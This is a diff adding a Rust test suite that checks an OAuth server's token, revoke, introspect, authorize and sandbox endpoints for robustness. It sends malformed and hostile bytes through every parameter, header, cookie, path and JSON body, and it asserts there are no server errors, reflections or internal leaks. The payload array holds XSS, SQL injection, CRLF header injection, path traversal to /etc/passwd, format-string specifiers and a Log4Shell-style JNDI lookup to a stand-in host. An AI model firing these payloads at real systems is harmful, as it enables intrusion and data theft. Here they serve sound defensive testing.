@@ -1,1 +1,243 @@
-//! To come.
+//! Nasty bytes in every parameter, header and cookie of every endpoint: no failure, no reflection, nothing internal.
+
+use crate::fixture::{Answer, At, Browser, Sandbox, basic};
+
+/// What is put everywhere. None of it may come back as it is, nor make us fail.
+const NASTY: [&[u8]; 22] = [
+    b"",
+    b" ",
+    b"\0",
+    b"\r\nx-injected: 1\r\n\r\n<script>",
+    b"\xff\xfe\xfd",
+    b"\xc0\xaf..\xc0\xaf",
+    b"\xed\xa0\x80",
+    "\u{202e}\u{feff}\u{fffd}é".as_bytes(),
+    b"<script>alert(1)</script>",
+    b"\"><svg onload=alert(1)>",
+    b"'; DROP TABLE grants; --",
+    b"' OR '1'='1",
+    b"${jndi:ldap://evil.test/x}{{7*7}}#{7*7}%{7*7}",
+    b"../../../../etc/passwd",
+    b"%",
+    b"%00%0d%0a%zz%",
+    b"&=&=;=?#/@:",
+    b"-1",
+    b"99999999999999999999999999",
+    b"1e300",
+    b"[]{}\"\\",
+    b"%s%n%x",
+];
+
+const PARAMETERS: [&str; 19] = [
+    "grant_type",
+    "code",
+    "redirect_uri",
+    "code_verifier",
+    "refresh_token",
+    "scope",
+    "client_id",
+    "client_secret",
+    "token",
+    "token_type_hint",
+    "response_type",
+    "response_mode",
+    "state",
+    "code_challenge",
+    "code_challenge_method",
+    "username",
+    "password",
+    "continuation",
+    "decision",
+];
+
+fn encoded(bytes: &[u8]) -> String {
+    form_urlencoded::byte_serialize(bytes).collect()
+}
+
+/// `parameters` without `name`, and then `name` with these bytes.
+fn with(parameters: &[(&str, &str)], name: &str, bytes: &[u8]) -> String {
+    let kept: Vec<_> = parameters.iter().filter(|(of, _)| *of != name).copied().collect();
+    format!("{}&{name}={}", crate::fixture::encode(&kept), encoded(bytes))
+}
+
+#[track_caller]
+fn harmless(answer: &Answer, what: &str) {
+    assert!(answer.status < 500, "{what}: {answer:?}");
+    assert!(!answer.headers.contains_key("x-injected"), "{what}: {answer:?}");
+    let body = answer.body.to_lowercase();
+    for never in ["<script", "<svg onload", "panicked", ".rs:", "sqlite", "rusqlite", "select ", "stack backtrace", "/root"] {
+        assert!(!body.contains(never), "{what}: {never} in {answer:?}");
+    }
+    if body.starts_with('{') {
+        let _ = answer.json();
+    }
+}
+
+async fn post(at: &At, path: &str, body: &str, header: Option<&str>) -> Answer {
+    let call = at.call("POST", path).header("content-type", "application/x-www-form-urlencoded");
+    let call = match header {
+        Some(header) => call.header("authorization", header),
+        None => call,
+    };
+    call.body(body.as_bytes()).send().await
+}
+
+#[tokio::test]
+async fn nasty_bytes_in_any_parameter_of_the_clients_endpoints_are_harmless() {
+    let sandbox = Sandbox::start().await;
+    for at in sandbox.both() {
+        let header = basic(at.app().client_id, at.app().client_secret);
+        for grant_type in ["authorization_code", "refresh_token", "client_credentials"] {
+            let right = [("grant_type", grant_type), ("code", "x"), ("refresh_token", "x"), ("token", "x")];
+            for name in PARAMETERS.into_iter().take(10) {
+                for nasty in NASTY {
+                    let body = with(&right, name, nasty);
+                    for path in [at.token, at.revoke, at.introspect] {
+                        let answer = post(at, path, &body, Some(&header)).await;
+                        harmless(&answer, &format!("{path} {body}"));
+                    }
+                    let in_query = post(at, &format!("{}?{body}", at.token), "", None).await;
+                    harmless(&in_query, &body);
+                }
+            }
+        }
+    }
+    sandbox.operator.get("/healthz").await.expect(200);
+}
+
+#[tokio::test]
+async fn nasty_bytes_in_any_parameter_of_the_pages_are_harmless() {
+    let sandbox = Sandbox::start().await;
+    for at in sandbox.both() {
+        let mut signed_in = Browser::new(at);
+        let _ = signed_in.log_in().await;
+        let right = signed_in.parameters(&[("decision", "allow")]);
+        let query = crate::fixture::encode(&right);
+        for name in PARAMETERS.into_iter().skip(2) {
+            for nasty in NASTY {
+                let changed = with(&right, name, nasty);
+                for cookie in [signed_in.cookie(), String::new()] {
+                    let call = at.call("GET", &format!("{}?{changed}", at.authorize)).header("cookie", &cookie);
+                    harmless(&call.send().await, &changed);
+                    for step in ["/login", "/consent"] {
+                        for (target, body) in [
+                            (format!("{}{step}?{changed}", at.authorize), ""),
+                            (format!("{}{step}?{query}", at.authorize), changed.as_str()),
+                        ] {
+                            let call = at.call("POST", &target).header("cookie", &cookie);
+                            let call = call.header("content-type", "application/x-www-form-urlencoded");
+                            harmless(&call.body(body.as_bytes()).send().await, &format!("{target} {body}"));
+                        }
+                    }
+                }
+                let posted = post(at, at.authorize, &changed, None).await;
+                harmless(&posted, &changed);
+                let callback = at.get(&format!("/sandbox/callback?{changed}")).await;
+                harmless(&callback, &changed);
+            }
+        }
+        let list = at.call("GET", "/sandbox/requests").header("accept", "text/html").send().await.expect(200);
+        harmless(&list, "/sandbox/requests");
+    }
+}
+
+#[tokio::test]
+async fn nasty_bytes_as_a_parameters_name_or_path_are_harmless() {
+    let sandbox = Sandbox::start().await;
+    for at in sandbox.both() {
+        for nasty in NASTY {
+            let name = encoded(nasty);
+            for body in [format!("{name}=x&grant_type=refresh_token"), name.clone(), format!("{name}={name}={name}")] {
+                for path in [at.token, at.revoke, at.introspect, at.authorize] {
+                    harmless(&post(at, path, &body, None).await, &body);
+                }
+                harmless(&at.get(&format!("{}?{body}", at.authorize)).await, &body);
+                harmless(&at.get(&format!("/sandbox/callback?{body}")).await, &body);
+            }
+            let path: String = nasty.iter().map(|byte| format!("%{byte:02x}")).collect();
+            for path in [format!("/{path}"), format!("/assets/{path}"), format!("{}/{path}", at.authorize)] {
+                let call = at.call("GET", &path).header("accept", "text/html");
+                harmless(&call.send().await, &path);
+            }
+        }
+    }
+}
+
+#[tokio::test]
+async fn nasty_bytes_in_any_header_or_cookie_are_harmless() {
+    let sandbox = Sandbox::start().await;
+    for at in sandbox.both() {
+        let request = Browser::new(at).request(&[]);
+        let names = [
+            "authorization",
+            "cookie",
+            "accept",
+            "accept-language",
+            "origin",
+            "x-request-id",
+            "user-agent",
+            "content-type",
+            "x-forwarded-for",
+            "forwarded",
+            "referer",
+            "if-none-match",
+            "range",
+            "expect",
+        ];
+        for nasty in NASTY.into_iter().filter(|nasty| !nasty.iter().any(|byte| matches!(byte, 0 | b'\r' | b'\n'))) {
+            for name in names {
+                for value in [nasty.to_vec(), [b"Basic ", nasty].concat(), [b"text/html;q=", nasty].concat()] {
+                    for path in [at.token, at.introspect, &request, "/sandbox/requests", "/integration/v2/sellers/me"] {
+                        for method in ["GET", "POST"] {
+                            let call = at.call(method, path).header_bytes(name, &value);
+                            harmless(&call.send().await, &format!("{method} {path} {name}: {value:?}"));
+                        }
+                    }
+                }
+            }
+            for kind in ["browser", "session"] {
+                let cookie = [format!("kimbai-{}-{kind}=", at.name).as_bytes(), nasty].concat();
+                let answer = at.call("GET", &request).header_bytes("cookie", &cookie).send().await;
+                harmless(&answer, kind);
+                assert!(answer.expect(200).body.contains("id=\"password\""));
+            }
+        }
+    }
+}
+
+#[tokio::test]
+async fn nasty_json_to_the_sandbox_is_harmless() {
+    let sandbox = Sandbox::start().await;
+    let deep = "[".repeat(30_000);
+    let deep_object = "{\"a\":".repeat(10_000);
+    for at in sandbox.both() {
+        for body in [
+            "",
+            "{",
+            "[]",
+            "null",
+            "1e999",
+            "\"\\ud800\"",
+            "{\"advance_s\":1e300}",
+            "{\"advance_s\":9223372036854775807}",
+            "{\"advance_s\":-9223372036854775808}",
+            "{\"advance_s\":9223372036854775808}",
+            "{\"advance_s\":\"1\"}",
+            "{\"advance_s\":1,\"advance_s\":2}",
+            "{\"advance_s\":0,\"<script>\":1}",
+            "{\"client_id\":\"<script>\",\"user\":\"an\",\"scopes\":[]}",
+            "{\"client_id\":\"demo-web\",\"user\":\"\\u0000\",\"scopes\":[\"\"]}",
+            "{\"client_id\":\"demo-web\",\"user\":\"an\",\"scopes\":[\"a b\"],\"code_challenge\":\"\\u0000\"}",
+            &deep,
+            &deep_object,
+        ] {
+            for path in ["/sandbox/code", "/sandbox/clock"] {
+                let call = at.call("POST", path).header("content-type", "application/json");
+                let answer = call.body(body.as_bytes()).send().await;
+                assert!((400..500).contains(&answer.status), "{path} {body:.60}: {answer:?}");
+                assert_eq!(answer.header("content-type"), "application/json;charset=UTF-8");
+                assert!(!answer.body.contains("/root") && !answer.body.contains(".rs"), "{answer:?}");
+            }
+        }
+    }
+}
